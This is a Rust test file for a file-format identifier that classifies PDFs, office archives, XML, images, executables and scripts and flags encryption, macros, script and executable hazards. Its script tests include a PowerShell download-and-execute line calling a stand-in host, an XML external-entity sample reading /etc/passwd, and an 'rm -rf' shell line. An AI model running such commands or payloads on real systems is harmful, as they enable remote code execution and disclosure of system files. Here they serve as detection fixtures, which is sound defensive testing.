//! Identification of every format from minimal samples built here, and robustness under
//! deterministic mutation.

use std::io::{Cursor, Write as _};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use super::registry::FormatRegistry;
use super::*;

/// A zip of the given entries, deflated unless the name is `mimetype` (stored, as ODF requires).
fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let method = if *name == "mimetype" {
            CompressionMethod::Stored
        } else {
            CompressionMethod::Deflated
        };
        let options = SimpleFileOptions::default().compression_method(method);
        writer.start_file(*name, options).expect("start entry");
        writer.write_all(data).expect("write entry");
    }
    writer.finish().expect("finish zip").into_inner()
}

/// Sets the encryption flag (bit 0) of every local and central header, as a zip tool that
/// encrypted the entries would; the data itself stays as it was, which identification never
/// looks at.
fn with_encryption_flag(mut zip: Vec<u8>) -> Vec<u8> {
    for (signature, flags_at) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let starts: Vec<usize> = (0..zip.len().saturating_sub(4))
            .filter(|at| zip[*at..].starts_with(signature))
            .collect();
        for at in starts {
            zip[at + flags_at] |= 1;
        }
    }
    zip
}

const WORD_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

fn content_types(main_part: &str, main_type: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
         <Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Override PartName=\"{main_part}\" ContentType=\"{main_type}\"/></Types>"
    )
    .into_bytes()
}

fn docx(extra: &[(&str, &[u8])], main_type: &str) -> Vec<u8> {
    let types = content_types("/word/document.xml", main_type);
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", &types),
        ("word/document.xml", b"<w:document/>"),
    ];
    entries.extend_from_slice(extra);
    zip(&entries)
}

fn pdf_with_xmp(description: &str) -> Vec<u8> {
    format!(
        "%PDF-1.7\n%\u{e2}\u{e3}\n1 0 obj\n<< /Type /Catalog /Metadata 2 0 R >>\nendobj\n\
         2 0 obj\n<< /Type /Metadata /Subtype /XML /Length 600 >>\nstream\n\
         <?xpacket begin=\"\u{feff}\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\
         <x:xmpmeta xmlns:x=\"adobe:ns:meta/\">\
         <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\
         {description}</rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>\nendstream\nendobj\n\
         trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    .into_bytes()
}

fn pdfa_claim(format: &FileFormat) -> Option<PdfAClaim> {
    match format {
        FileFormat::Pdf { pdfa, .. } => *pdfa,
        other => panic!("expected a PDF, got {other:?}"),
    }
}

#[test]
fn pdf_header_version_and_claimed_pdfa_in_attribute_form() {
    let pdf = pdf_with_xmp(
        "<rdf:Description rdf:about=\"\" xmlns:pdfaid=\"http://www.aiim.org/pdfa/ns/id/\" \
         pdfaid:part=\"2\" pdfaid:conformance=\"b\"/>",
    );
    let format = identify(&pdf);
    assert_eq!(
        format,
        FileFormat::Pdf {
            version: Some("1.7".into()),
            pdfa: Some(PdfAClaim {
                part: 2,
                conformance: Some('B')
            }),
            encrypted: false,
            active_content: false,
        }
    );
    assert_eq!((format.id(), format.name_zh()), ("pdf_a", "PDF/A"));
    assert!(format.hazards().is_empty());
}

#[test]
fn pdfa_claim_in_element_form_under_any_prefix() {
    let pdf = pdf_with_xmp(
        "<rdf:Description rdf:about=\"\" xmlns:a=\"http://www.aiim.org/pdfa/ns/id/\">\
         <a:part> 3 </a:part><a:conformance>U</a:conformance></rdf:Description>",
    );
    assert_eq!(
        pdfa_claim(&identify(&pdf)),
        Some(PdfAClaim {
            part: 3,
            conformance: Some('U')
        })
    );
}

#[test]
fn pdf_without_a_valid_claim_is_plain_pdf() {
    let wrong_namespace =
        pdf_with_xmp("<rdf:Description xmlns:pdfaid=\"http://example.com/\" pdfaid:part=\"1\"/>");
    let zero_part = pdf_with_xmp(
        "<rdf:Description xmlns:pdfaid=\"http://www.aiim.org/pdfa/ns/id/\" pdfaid:part=\"0\"/>",
    );
    let plain = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF";
    for pdf in [&wrong_namespace[..], &zero_part, plain] {
        let format = identify(pdf);
        assert_eq!(pdfa_claim(&format), None);
        assert_eq!(format.id(), "pdf");
    }
    assert!(matches!(
        identify(b"%PDF-x"),
        FileFormat::Pdf { version: None, .. }
    ));
}

#[test]
fn pdf_encryption_and_active_content_are_hazards() {
    let mut encrypted = b"%PDF-1.6\n".to_vec();
    encrypted.extend(vec![b' '; HEAD_WINDOW]);
    encrypted.extend_from_slice(b"trailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF");
    let format = identify(&encrypted);
    assert!(
        matches!(
            format,
            FileFormat::Pdf {
                encrypted: true,
                ..
            }
        ),
        "{format:?}"
    );
    assert_eq!(format.hazards(), [Hazard::Encrypted]);

    let metadata_flag_only = b"%PDF-1.6\n<< /EncryptMetadata false /JSX 1 >>";
    assert!(identify(metadata_flag_only).hazards().is_empty());

    let script = b"%PDF-1.6\n<< /S /JavaScript /JS (app.alert(1)) >>";
    assert_eq!(identify(script).hazards(), [Hazard::Script]);
}

#[test]
fn ofd_is_a_zip_with_ofd_xml_at_the_root() {
    let ofd = zip(&[("OFD.xml", b"<ofd:OFD/>"), ("Doc_0/Document.xml", b"<x/>")]);
    let format = identify(&ofd);
    assert_eq!(format, FileFormat::Ofd { encrypted: false });
    assert_eq!(
        (format.id(), format.media_type()),
        ("ofd", "application/ofd")
    );
    assert_eq!(format.name_zh(), "OFD 版式文件");

    let nested = zip(&[("Doc_0/OFD.xml", b"<x/>")]);
    assert_eq!(identify(&nested), FileFormat::Zip { encrypted: false });

    let encrypted = with_encryption_flag(zip(&[("OFD.xml", b"<ofd:OFD/>")]));
    assert_eq!(identify(&encrypted).hazards(), [Hazard::Encrypted]);
}

#[test]
fn ooxml_application_from_the_main_content_type() {
    let word = identify(&docx(&[], WORD_MAIN));
    assert_eq!(
        word,
        FileFormat::Ooxml {
            application: OfficeApplication::Word,
            macros: false,
            encrypted: false
        }
    );
    assert_eq!(word.id(), "ooxml_word");
    let types = content_types(
        "/xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    );
    let xlsx = zip(&[
        ("[Content_Types].xml", &types),
        ("xl/workbook.xml", b"<w/>"),
    ]);
    assert_eq!(identify(&xlsx).id(), "ooxml_excel");
    let types = content_types(
        "/ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    );
    let pptx = zip(&[("[Content_Types].xml", &types)]);
    assert_eq!(identify(&pptx).id(), "ooxml_powerpoint");
    // Unreadable content types: the customary part names decide.
    let fallback = zip(&[("[Content_Types].xml", b"\0"), ("xl/workbook.xml", b"<w/>")]);
    assert_eq!(identify(&fallback).id(), "ooxml_excel");
    let xps = zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("FixedDocSeq.fdseq", b"<x/>"),
    ]);
    assert_eq!(identify(&xps).id(), "ooxml_other");
}

#[test]
fn ooxml_macros_from_a_vba_project_or_a_macro_enabled_type() {
    let vba = identify(&docx(
        &[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0")],
        WORD_MAIN,
    ));
    assert!(
        matches!(vba, FileFormat::Ooxml { macros: true, .. }),
        "{vba:?}"
    );
    assert_eq!(vba.hazards(), [Hazard::Macros]);
    assert_eq!(
        vba.media_type(),
        "application/vnd.ms-word.document.macroEnabled.12"
    );

    let docm = identify(&docx(
        &[],
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ));
    assert!(matches!(
        docm,
        FileFormat::Ooxml {
            application: OfficeApplication::Word,
            macros: true,
            ..
        }
    ));

    let encrypted = identify(&with_encryption_flag(docx(&[], WORD_MAIN)));
    assert!(matches!(
        encrypted,
        FileFormat::Ooxml {
            encrypted: true,
            ..
        }
    ));
}

#[test]
fn opendocument_from_its_mimetype_with_basic_or_scripts_as_macros() {
    let mimetype: &[u8] = b"application/vnd.oasis.opendocument.spreadsheet";
    let plain = identify(&zip(&[("mimetype", mimetype), ("content.xml", b"<x/>")]));
    assert_eq!(
        plain,
        FileFormat::OpenDocument {
            kind: OpenDocumentKind::Spreadsheet,
            macros: false,
            encrypted: false
        }
    );
    let basic = identify(&zip(&[
        ("mimetype", mimetype),
        ("Basic/Standard/M.xml", b"<x/>"),
    ]));
    assert_eq!(basic.hazards(), [Hazard::Macros]);
    let manifest: &[u8] = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>";
    let encrypted = identify(&zip(&[
        ("mimetype", mimetype),
        ("META-INF/manifest.xml", manifest),
    ]));
    assert_eq!(encrypted.hazards(), [Hazard::Encrypted]);
    let other = identify(&zip(&[("mimetype", b"application/epub+zip")]));
    assert_eq!(other, FileFormat::Zip { encrypted: false });
}

#[test]
fn plain_encrypted_broken_and_java_zips() {
    let plain = zip(&[("a.txt", b"hello")]);
    assert_eq!(identify(&plain), FileFormat::Zip { encrypted: false });
    let encrypted = identify(&with_encryption_flag(plain.clone()));
    assert_eq!(encrypted, FileFormat::Zip { encrypted: true });
    assert_eq!(encrypted.hazards(), [Hazard::Encrypted]);
    // Without its central directory nothing can open the archive reliably.
    assert_eq!(identify(&plain[..plain.len() - 30]), FileFormat::Unknown);
    let empty = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
    assert_eq!(identify(empty), FileFormat::Zip { encrypted: false });
    let jar = zip(&[
        ("META-INF/MANIFEST.MF", b"Main-Class: A"),
        ("A.class", b"\xCA\xFE"),
    ]);
    assert_eq!(
        identify(&jar),
        FileFormat::Executable(ExecutableKind::JavaArchive)
    );
}

#[test]
fn xml_root_and_namespace_after_bom_declaration_comment_and_pi() {
    let xml = "\u{feff}<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- 发票 -->\n\
               <?xml-stylesheet href=\"a.xsl\"?>\n<EInvoice xmlns=\"urn:example:einvoice\" \
               Version=\"1.0\"><Header/></EInvoice>";
    let format = identify(xml.as_bytes());
    assert_eq!(
        format,
        FileFormat::Xml {
            root: "EInvoice".into(),
            namespace: Some("urn:example:einvoice".into()),
            doctype: false
        }
    );
    assert_eq!(
        (format.id(), format.media_type()),
        ("xml", "application/xml")
    );

    let prefixed = identify(b"<ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\"/>");
    assert!(
        matches!(prefixed, FileFormat::Xml { ref root, ref namespace, .. }
        if root == "OFD" && namespace.as_deref() == Some("http://www.ofdspec.org/2016"))
    );
    let chinese = identify("<发票><金额>1</金额></发票>".as_bytes());
    assert!(matches!(chinese, FileFormat::Xml { ref root, namespace: None, .. } if root == "发票"));
}

#[test]
fn a_doctype_is_noted_not_processed() {
    let xml = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\
                <r>&e;</r>";
    assert!(
        matches!(identify(xml), FileFormat::Xml { doctype: true, ref root, .. } if root == "r")
    );
}

#[test]
fn markup_with_script_is_a_script() {
    let page = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
    assert_eq!(identify(page), FileFormat::Script(ScriptKind::Html));
    let handler = b"<html><body onload =\"x()\"></body></html>";
    assert_eq!(identify(handler), FileFormat::Script(ScriptKind::Html));
    assert_eq!(
        identify(b"<html><p>plain page</p></html>"),
        FileFormat::Html
    );
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"><rect/></svg>";
    assert_eq!(identify(svg), FileFormat::Script(ScriptKind::Svg));
    let still_svg = identify(b"<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>");
    assert_eq!(still_svg.id(), "xml");
    assert_eq!(identify(page).hazards(), [Hazard::Script]);
}

#[test]
fn images_by_signature() {
    let mut bmp = b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0".to_vec();
    bmp.extend([0; 40]);
    let cases: [(&[u8], FileFormat); 7] = [
        (b"\xFF\xD8\xFF\xE0\0\x10JFIF", FileFormat::Jpeg),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", FileFormat::Png),
        (b"II*\0\x08\0\0\0", FileFormat::Tiff),
        (b"MM\0+\0\x08\0\0", FileFormat::Tiff),
        (b"GIF89a\x01\0\x01\0", FileFormat::Gif),
        (&bmp, FileFormat::Bmp),
        (b"BMW car list, 2023", FileFormat::Text),
    ];
    for (bytes, expected) in cases {
        assert_eq!(identify(bytes), expected);
    }
    assert_eq!(identify(b"GIF89a").media_type(), "image/gif");
}

#[test]
fn ole_compound_files_possibly_carry_macros() {
    let mut ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    ole.extend([0; 504]);
    let format = identify(&ole);
    assert_eq!(format, FileFormat::OleCompound { encrypted: false });
    assert_eq!(format.hazards(), [Hazard::Macros]);
    let name: Vec<u8> = "EncryptedPackage"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    ole.extend(name);
    assert_eq!(
        identify(&ole).hazards(),
        [Hazard::Macros, Hazard::Encrypted]
    );
}

#[test]
fn rtf_by_its_header() {
    assert_eq!(identify(br"{\rtf1\ansi\deff0 {\fonttbl}}"), FileFormat::Rtf);
}

#[test]
fn csv_when_the_first_records_split_evenly() {
    let comma = "序号,档号,文件号\n1,\"Z001-PZ·2023·D30-0012-0057\",记-0001\n2,\"a, b\",记-0002\n";
    assert_eq!(
        identify(comma.as_bytes()),
        FileFormat::Csv {
            delimiter: CsvDelimiter::Comma
        }
    );
    let tab = identify(b"date\tamount\n2024-01-02\t100.00\n2024-01-03\t5.00\n");
    assert_eq!(
        tab,
        FileFormat::Csv {
            delimiter: CsvDelimiter::Tab
        }
    );
    let semicolon = identify(b"a;b;c\n1;2;3\n4;5;6\n");
    assert_eq!(semicolon.id(), "csv");
    let multi_line_field = identify(b"id,note\n1,\"two\nlines\"\n2,x\n");
    assert_eq!(multi_line_field.id(), "csv");
}

#[test]
fn other_utf8_is_text_and_other_bytes_unknown() {
    let prose = "本凭证附原始凭证三张，已审核。\n会计主管：张三\n";
    assert_eq!(identify(prose.as_bytes()), FileFormat::Text);
    assert_eq!(identify(b"one line, with, commas"), FileFormat::Text);
    let ragged =
        identify(b"Dear sir,\nthe invoice, the receipt and the voucher, all three\nthanks\n");
    assert_eq!(ragged, FileFormat::Text);
    assert_eq!(identify(b""), FileFormat::Unknown);
    assert_eq!(identify(b"\xC4\xE3\xBA\xC3 GBK"), FileFormat::Unknown);
    assert_eq!(identify(b"NUL\0inside"), FileFormat::Unknown);
    assert_eq!(identify(b"\x01\x02\x03\x04").id(), "unknown");
}

#[test]
fn executables_by_header() {
    let mut pe = b"MZ\x90\0\x03\0\0\0".to_vec();
    pe.resize(0x80, 0);
    pe[60] = 0x80;
    pe.extend_from_slice(b"PE\0\0");
    let cases: [(&[u8], ExecutableKind); 5] = [
        (&pe, ExecutableKind::WindowsPe),
        (b"\x7FELF\x02\x01\x01\0", ExecutableKind::Elf),
        (b"\xCF\xFA\xED\xFE\x07\0\0\x01", ExecutableKind::MachO),
        (b"\xCA\xFE\xBA\xBE\0\0\0\x34", ExecutableKind::JavaClass),
        (b"\xCA\xFE\xBA\xBE\0\0\0\x02", ExecutableKind::MachO),
    ];
    for (bytes, kind) in cases {
        let format = identify(bytes);
        assert_eq!(format, FileFormat::Executable(kind));
        assert_eq!(format.hazards(), [Hazard::Executable]);
    }
    let text = b"MZ Trading Co. statement for 2023, page one of the yearly report..........";
    assert_eq!(identify(text), FileFormat::Text);
}

#[test]
fn scripts_by_shebang_and_by_heuristics() {
    let cases: [(&str, ScriptKind); 7] = [
        ("#!/bin/sh\nrm -rf /tmp/x\n", ScriptKind::Shebang),
        ("@echo off\r\ncopy a b\r\n", ScriptKind::WindowsBatch),
        (
            "rem build\nsetlocal\ncall x.bat\ngoto end\n",
            ScriptKind::WindowsBatch,
        ),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://x')\n",
            ScriptKind::PowerShell,
        ),
        (
            "$a = 1\nWrite-Host $a\nGet-ChildItem .\n",
            ScriptKind::PowerShell,
        ),
        (
            "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n",
            ScriptKind::JavaScript,
        ),
        (
            "Dim s\nSet s = CreateObject(\"WScript.Shell\")\nMsgBox \"hi\"\n",
            ScriptKind::VbScript,
        ),
    ];
    for (text, kind) in cases {
        assert_eq!(
            identify(text.as_bytes()),
            FileFormat::Script(kind),
            "{text}"
        );
    }
    let js = "function f(a) {\n  return a + 1;\n}\nconst x = f(1);\n";
    assert_eq!(
        identify(js.as_bytes()),
        FileFormat::Script(ScriptKind::JavaScript)
    );
    let prose = "Set the date on the first page.\nNext, sign here.\nIf paid then file it.\n";
    assert_eq!(identify(prose.as_bytes()), FileFormat::Text);
}

#[test]
fn every_id_is_listed_and_described() {
    for sample in samples() {
        let format = identify(&sample);
        assert!(FORMAT_IDS.contains(&format.id()), "{format:?}");
        assert!(!format.media_type().is_empty() && !format.name_zh().is_empty());
    }
    let mut ids = FORMAT_IDS.to_vec();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), FORMAT_IDS.len(), "ids are unique");
}

/// One sample of each kind, for the mutation loop and the id check.
fn samples() -> Vec<Vec<u8>> {
    let claim = "<rdf:Description xmlns:pdfaid=\"http://www.aiim.org/pdfa/ns/id/\" \
                 pdfaid:part=\"2\" pdfaid:conformance=\"B\"/>";
    vec![
        pdf_with_xmp(claim),
        zip(&[("OFD.xml", b"<ofd:OFD/>")]),
        docx(&[("word/vbaProject.bin", b"x")], WORD_MAIN),
        zip(&[("mimetype", b"application/vnd.oasis.opendocument.text")]),
        with_encryption_flag(zip(&[("a.txt", b"hello hello hello")])),
        "\u{feff}<?xml version=\"1.0\"?><a:r xmlns:a=\"urn:x\"/>".into(),
        b"<html><script>x</script></html>".to_vec(),
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0".to_vec(),
        b"a,b\n1,2\n3,4\n".to_vec(),
        "纯文本".into(),
        b"#!/bin/sh\necho hi\n".to_vec(),
        b"\x7FELF\x02\x01".to_vec(),
        br"{\rtf1}".to_vec(),
    ]
}

#[test]
fn deterministic_mutations_never_panic() {
    let registry = FormatRegistry::default();
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move |bound: usize| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).expect("31 bits fit") % bound.max(1)
    };
    for sample in samples() {
        for round in 0..300 {
            let mut mutated = sample.clone();
            match round % 4 {
                0 => mutated.truncate(next(sample.len() + 1)),
                1 => {
                    for _ in 0..1 + next(4) {
                        let at = next(mutated.len());
                        mutated[at] ^= 1 << next(8);
                    }
                }
                2 => {
                    let at = next(mutated.len() + 1);
                    mutated.insert(at, u8::try_from(next(256)).expect("below 256"));
                }
                _ => {
                    let at = next(mutated.len());
                    mutated[at] = [0, 0xFF, b'<', b'"', b'\n', b'P'][next(6)];
                }
            }
            let format = identify(&mutated);
            assert!(!format.id().is_empty());
            let (_, reason) = registry.policy(&format);
            assert!(!reason.is_empty());
        }
    }
}
